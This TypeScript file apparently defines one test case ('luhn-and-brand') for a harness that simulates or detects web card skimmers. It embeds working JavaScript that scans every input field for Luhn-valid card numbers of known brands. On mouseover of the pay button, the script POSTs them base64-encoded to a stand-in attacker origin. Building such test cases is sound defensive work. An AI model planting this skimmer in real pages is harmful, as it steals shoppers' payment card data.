import { holds, js, skimmer } from '../behaviour.ts';
import { base64, bodies } from '../site/arrivals.ts';
import { withCard } from '../snippets.ts';

export default skimmer({
  id: 'luhn-and-brand',
  why: 'Looks for a number of a known brand that passes the Luhn test in any input, and sends nothing else (16 of 88 samples).',
  covers: ['reading: card test', 'reading: every input', 'sending: fetch'],
  base: 'direct',
  install: (site) =>
    site.append(
      withCard(js`
  var luhn = function (n) { for (var s = 0, i = 0; i < n.length; i++) { var d = +n[n.length - 1 - i] * (i % 2 ? 2 : 1); s += d > 9 ? d - 9 : d; } return s % 10 === 0; };
  document.addEventListener('input', function () {
    document.querySelectorAll('input').forEach(function (e) {
      var n = e.value.replace(/\D/g, '');
      if (!window._l && /^(4\d{15}|5[1-5]\d{14}|3[47]\d{13}|35\d{14})$/.test(n) && luhn(n)) window._l = n;
    });
  });
  document.getElementById('pay').addEventListener('mouseover', function () { if (window._l) { fetch('${site.origins.evil}/check', { method: 'POST', mode: 'no-cors', body: btoa(window._l + '|' + card()) }); window._l = ''; } });`),
    ),
  proof: holds((arrived) => bodies(arrived).map(base64)),
});
